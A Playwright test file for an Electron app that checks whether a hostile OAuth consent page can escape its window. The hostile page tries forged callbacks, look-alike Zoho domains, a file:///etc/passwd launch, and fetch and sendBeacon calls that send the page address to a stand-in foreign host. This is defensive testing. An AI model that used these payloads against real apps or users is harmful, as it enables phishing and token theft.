/**
 * A consent page that has turned against the person. Whatever it tries, nothing opens, no second page comes up, no file
 * is saved, nothing is asked of another server, nobody is connected, Cancel works, and a genuine consent works after.
 */
import { expect, test, type Page } from '@playwright/test';
import { mkdirSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startSandbox, type Sandbox } from '../../electron/sandbox/index.ts';
import { startApp, until, type RunningApp } from '../e2e/app.ts';
import { fillClient, navigation } from '../e2e/fixtures.ts';
import { reliabilitySuite } from '../run/figures.ts';
import { openHostileAccounts, type HostileAccounts } from './hostile-accounts.ts';

test.describe.configure({ mode: 'default' });
const suite = reliabilitySuite('Consent page attacks');

let folder: string;
let zoho: Sandbox;
let accounts: HostileAccounts;
let app: RunningApp;
let consent: Page;
const connectButton = () => app.page.getByRole('button', { name: 'Connect Zoho' });

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'parley-hostile-'));
  mkdirSync(join(folder, 'home'));
  zoho = await startSandbox({ data: 'empty' });
  accounts = await openHostileAccounts(zoho);
  app = await startApp(join(folder, 'user-data'), { PARLEY_ZOHO_ORIGIN: accounts.origin, HOME: join(folder, 'home') });
  await fillClient(app.page, zoho.client);
});
test.afterAll(async () => {
  await app.stop();
  await accounts.close();
  await zoho.close();
  rmSync(folder, { recursive: true, force: true, maxRetries: 3 });
  suite.end();
});

/** Opens the hostile consent page. */
async function ask() {
  accounts.hostile = true;
  await connectButton().click();
  consent = await app.consent();
  await expect(consent.getByRole('heading', { name: 'Hostile' })).toBeVisible();
}

const pages = () => app.browser.contexts().flatMap((context) => context.pages()).filter((each) => !each.isClosed());
const files = () => readdirSync(folder, { recursive: true }).map(String).filter((name) => /evil|download/i.test(name));

/** What holds after each trick. */
function nothingDone() {
  expect(app.desktop().filter(({ type }) => type === 'openExternal' || type === 'clipboard')).toEqual([]);
  expect(accounts.strayed).toEqual([]);
  expect(accounts.asked.filter((each) => /\/evil\.example\.test\/|popup|\/token$/.test(each))).toEqual([]);
  expect(files()).toEqual([]);
  expect(zoho.control.tokens.liveRefreshTokens()).toEqual([]);
}

/** The consent page is still there and answers, so that what it began has had its chance; and it is the only one. */
async function stays() {
  await consent.evaluate(() => new Promise((resolve) => setTimeout(resolve, 40)));
  await expect(consent.getByRole('heading', { name: 'Hostile' })).toBeVisible();
  await until('other pages to be gone', () => pages().length === 2);
  await until('the title', async () => (await consent.title()) === 'https://accounts.zoho.com');
  await expect(app.page.getByRole('button', { name: 'Cancel' })).toBeVisible();
  nothingDone();
}

/** The attempt is over, and the person is where they began. */
async function over() {
  await expect(connectButton()).toBeVisible();
  await until('the consent window to close', () => pages().length === 1);
  await expect(navigation(app.page)).toHaveCount(0);
  nothingDone();
}

type Trick = readonly [name: string, run: () => Promise<unknown>];

const counted = (name: string, run: () => Promise<unknown>) =>
  test.step(name, async () => {
    suite.count();
    try {
      await run();
    } catch (error) {
      suite.violation(name);
      throw error;
    }
  });

/** One consent page tries these one after another, in vain; then the person cancels. */
const inVain = (name: string, tricks: readonly Trick[]) =>
  test(`in vain: ${name}`, async () => {
    await ask();
    for (const [trick, run] of tricks) {
      await counted(trick, async () => {
        await run();
        await stays();
      });
    }
    await app.page.getByRole('button', { name: 'Cancel' }).click();
    await over();
  });
/** Each of these ends its consent, with a word to the person. The quick part takes every other one. */
const endsIt = (name: string, tricks: readonly Trick[]) =>
  test(`ends the consent: ${name}`, async () => {
    for (const [trick, run] of tricks.filter((_, index) => suite.full || index % 2 === 0)) {
      await counted(trick, async () => {
        await ask();
        // The page may be gone before it has answered.
        await run().catch(() => undefined);
        await expect(app.page.getByRole('alert')).toBeVisible();
        await over();
      });
    }
  });
/** A click by the person on something that the page has put there. */
async function clicking(html: string) {
  await consent.evaluate((markup) => {
    document.querySelector('#baits')?.remove();
    document.body.insertAdjacentHTML('beforeend', `<div id="baits">${markup}</div>`);
  }, html);
  await consent.locator('#bait').click({ noWaitAfter: true });
}
/** A frame that the page puts into itself. */
const framing = (src: string) => consent.evaluate((to) => {
  document.body.append(Object.assign(document.createElement('iframe'), { src: to }));
}, src);
const leading = (to: string) => consent.evaluate((url) => {
  location.href = url;
}, to);
const foreign = () => accounts.foreign;

inVain('pop-ups', [
  ...['https://accounts.zoho.com/evil/popup', 'about:blank', 'javascript:document.write(1)', 'data:text/html,evil', '', 'parley://oauth/callback?error=x']
    .map((target): Trick => [`window.open of "${target}"`, () =>
      consent.evaluate((url) => {
        const opened = window.open(url, '_blank', 'width=200');
        // Where a window is answered at all, it is closed before it can be written to.
        opened?.document.write('<title>evil</title>');
      }, target).catch(() => undefined)]),
  ['a link with a target', () => clicking('<a id="bait" target="_blank" href="/accounts.zoho.com/evil/popup">go</a>')],
  ['a link with its opener', () => clicking('<a id="bait" target="evil" rel="opener" href="/accounts.zoho.com/evil/popup">go</a>')],
  ['a form with a target', () =>
    clicking('<form target="_blank" method="post" action="/accounts.zoho.com/evil/popup"><button id="bait">go</button></form>')],
]);

inVain('downloads', [
  ['an attachment', () => consent.evaluate(() => location.assign('/accounts.zoho.com/evil/download'))],
  ['a link that downloads', () => clicking('<a id="bait" download="evil-link.txt" href="/accounts.zoho.com/evil/download">go</a>')],
  ['a blob', () => consent.evaluate(() => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['evil']));
    link.download = 'evil-blob.txt';
    link.click();
  })],
  ['a data address', () => clicking('<a id="bait" download="evil-data.txt" href="data:text/plain,evil">go</a>')],
  ['a frame with an attachment', () => framing('/accounts.zoho.com/evil/download')],
]);

const launches = [
  'mailto:a@example.test', 'tel:123', 'file:///etc/passwd', 'ms-word:ofe|u|https://evil.example.test/a.docx',
  'smb://evil.example.test/share', 'vscode://evil', 'intent://evil#Intent;end', 'parley://oauth/evil?code=1&state=1',
  'PARLEY://oauth/other', 'view-source:https://accounts.zoho.com/', 'chrome://settings', 'app://parley/index.html',
];
inVain('protocol launches by script, by link and by frame', launches.map((url): Trick => [url, async () => {
  await leading(url).catch(() => undefined);
  await clicking(`<a id="bait" href="${url}">go</a>`);
  await framing(url);
}]));

inVain('permissions', [
  ['none is granted, whatever is asked', async () => {
    const answers = await consent.evaluate(async () => {
      const refusedLate = () => new Promise<string>((resolve) => setTimeout(() => resolve('refused'), 1_000));
      const told = (work: Promise<unknown>) => Promise.race([work.then(() => 'granted', () => 'refused'), refusedLate()]);
      const place = new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject));
      const [geolocation, camera, microphone, screen, clipboard, midi] = await Promise.all([
        told(place),
        told(navigator.mediaDevices.getUserMedia({ video: true })),
        told(navigator.mediaDevices.getUserMedia({ audio: true })),
        told(navigator.mediaDevices.getDisplayMedia()),
        told(navigator.clipboard.readText()),
        told(navigator.requestMIDIAccess({ sysex: true })),
      ]);
      const state = async (name: string) => (await navigator.permissions.query({ name: name as PermissionName })).state;
      return {
        notifications: await Notification.requestPermission(),
        geolocation, camera, microphone, screen, clipboard, midi,
        storage: await navigator.storage.persist(),
        states: await Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'].map(state)),
      };
    });
    expect(answers).toEqual({
      notifications: 'denied',
      geolocation: 'refused', camera: 'refused', microphone: 'refused', screen: 'refused', clipboard: 'refused', midi: 'refused',
      storage: false,
      states: Array<string>(6).fill('denied'),
    });
  }],
  ['full screen', async () => {
    await consent.evaluate(() => document.documentElement.requestFullscreen().catch(() => undefined));
    expect(await consent.evaluate(() => document.fullscreenElement === null)).toBe(true);
  }],
  ['the pointer', async () => {
    await consent.evaluate(() => Promise.resolve(document.body.requestPointerLock()).catch(() => undefined));
    expect(await consent.evaluate(() => document.pointerLockElement === null)).toBe(true);
  }],
]);

inVain('what the page can reach', [
  ['no opener, no parent, no bridge, no Node', async () => {
    const reached = await consent.evaluate(() =>
      ['opener', 'parley', 'require', 'process', 'module', 'Buffer', 'global', 'electron', '__dirname', 'ipcRenderer'].filter(
        (name) => name in window && (window as unknown as Record<string, unknown>)[name] !== null,
      ).concat(window.parent === window && window.top === window ? [] : ['parent']));
    expect(reached).toEqual([]);
  }],
  ['a server next door, by every request it can make', () => consent.evaluate((to) => {
    for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data']] as const) {
      const element = document.createElement(tag);
      element.setAttribute(name, `${to}/${tag}`);
      document.body.append(element);
    }
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}/style` }));
    void fetch(`${to}/fetch`, { method: 'POST', mode: 'no-cors', body: document.URL }).catch(() => undefined);
    navigator.sendBeacon(`${to}/beacon`, document.URL);
    new EventSource(`${to}/events`).close();
  }, foreign())],
  ['a foreign page in a frame', () => framing('https://evil.example.test/')],
  ['a foreign page in a frame, by redirect', () => framing('/accounts.zoho.com/evil/away')],
  ['a foreign page in a frame, by meta refresh', () => framing('/accounts.zoho.com/evil/refresh')],
  ['a form to a foreign page in a frame', () =>
    clicking(`<form target="inner" method="post" action="${foreign()}/form"><button id="bait">go</button></form>`)],
  ['workers', () => consent.evaluate(async () => {
    await navigator.serviceWorker.register('/accounts.zoho.com/evil/worker.js', { scope: '/' }).catch(() => undefined);
    for (const make of [() => new SharedWorker('/accounts.zoho.com/evil/worker.js'), () => new Worker('/accounts.zoho.com/evil/worker.js')])
      try {
        make();
      } catch {
        // Refused is as good.
      }
  })],
]);

inVain('tricks', [
  ['a title that looks like another page', () => consent.evaluate(() => {
    document.title = 'https://accounts.zoho.eu – Sign in';
  })],
  ['an address that looks like another page', () => consent.evaluate(() => {
    history.pushState({}, '', '/accounts.zoho.eu/oauth/v2/auth');
    document.title = 'https://accounts.zoho.eu';
    history.replaceState({}, '', '/accounts.zoho.com/oauth/v2/auth');
  })],
  ['many entries of history, and back', () => consent.evaluate(() => {
    for (let count = 0; count < 60; count += 1) history.pushState({ count }, '', `#${count}`);
    history.go(-20);
  })],
  ['dialogs', () => consent.evaluate(() => {
    setTimeout(() => {
      alert('evil');
      confirm('evil');
      prompt('evil');
      print();
    });
  })],
  ['moving, resizing and focusing itself', () => consent.evaluate(() => {
    window.moveTo(0, 0);
    window.resizeTo(9_999, 9_999);
    window.focus();
  })],
  // Last: the person cancels after it.
  ['a page that does not want to be left', async () => {
    await consent.locator('#click').click();
    await consent.evaluate(() => {
      window.addEventListener('beforeunload', (event) => event.preventDefault());
    });
  }],
]);

const callbacks = ['parley://oauth/callback?error=access_denied', 'parley://oauth/callback?code=1000.evil&state=evil'];
inVain('the callback from within the page', [
  ...callbacks.flatMap((url): Trick[] => [
    [`as a new frame: ${url}`, () => framing(url)],
    [`as a frame that moves there: ${url}`, () => consent.evaluate((to) => {
      const inner = document.querySelector<HTMLIFrameElement>('iframe[name=inner]');
      if (inner?.contentWindow) inner.contentWindow.location.href = to;
    }, url)],
    [`as a picture, a script and a fetch: ${url}`, () => consent.evaluate((to) => {
      document.body.append(Object.assign(new Image(), { src: to }), Object.assign(document.createElement('script'), { src: to }));
      void fetch(to, { mode: 'no-cors' }).catch(() => undefined);
    }, url)],
  ]),
  ['as a form in a frame', () =>
    clicking('<form target="inner" method="post" action="parley://oauth/callback"><input name="error" value="access_denied"><button id="bait">go</button></form>')],
]);

endsIt('a callback with a state of the page’s own making', [
  ['as an address', () => leading('parley://oauth/callback?code=1000.evil&state=evil')],
  ['as an error', () => leading('parley://oauth/callback?error=evil&state=evil')],
  ['as a form', () =>
    clicking('<form method="post" action="parley://oauth/callback"><input name="code" value="1000.evil"><input name="state" value="evil"><button id="bait">go</button></form>')],
]);

endsIt('a foreign page', [
  ['directly', () => leading(`${foreign()}/direct`)],
  ['by its real name', () => leading('https://evil.example.test/')],
  ['by a redirect', () => leading('/accounts.zoho.com/evil/away')],
  ['by a redirect to a real name', () => leading('/accounts.zoho.com/evil/away-307')],
  ['by a meta refresh', () => leading('/accounts.zoho.com/evil/refresh')],
  ['by a look-alike of Zoho', () => leading('https://accounts.zoho.com.evil.example.test/')],
  ['by a form', () => clicking(`<form method="post" action="${foreign()}/form"><input name="secret" value="1"><button id="bait">go</button></form>`)],
  ['by a link to the top', () => clicking(`<a id="bait" target="_top" href="${foreign()}/top">go</a>`)],
  ['from a frame, through its parent', () => consent.evaluate((to) => {
    const inner = document.querySelector<HTMLIFrameElement>('iframe[name=inner]');
    inner?.contentDocument?.write(`<script>top.location.href = '${to}/inner'</script>`);
  }, foreign())],
]);

test('after all of that, a genuine consent connects', () =>
  counted('genuine', async () => {
    accounts.hostile = false;
    await connectButton().click();
    await (await app.consent()).getByRole('button', { name: 'Accept' }).click();
    await expect(navigation(app.page)).toBeVisible();
    expect(zoho.control.tokens.liveRefreshTokens()).toHaveLength(1);
    expect(accounts.strayed).toEqual([]);
    expect(app.desktop().filter(({ type }) => type === 'openExternal')).toEqual([]);
  }));
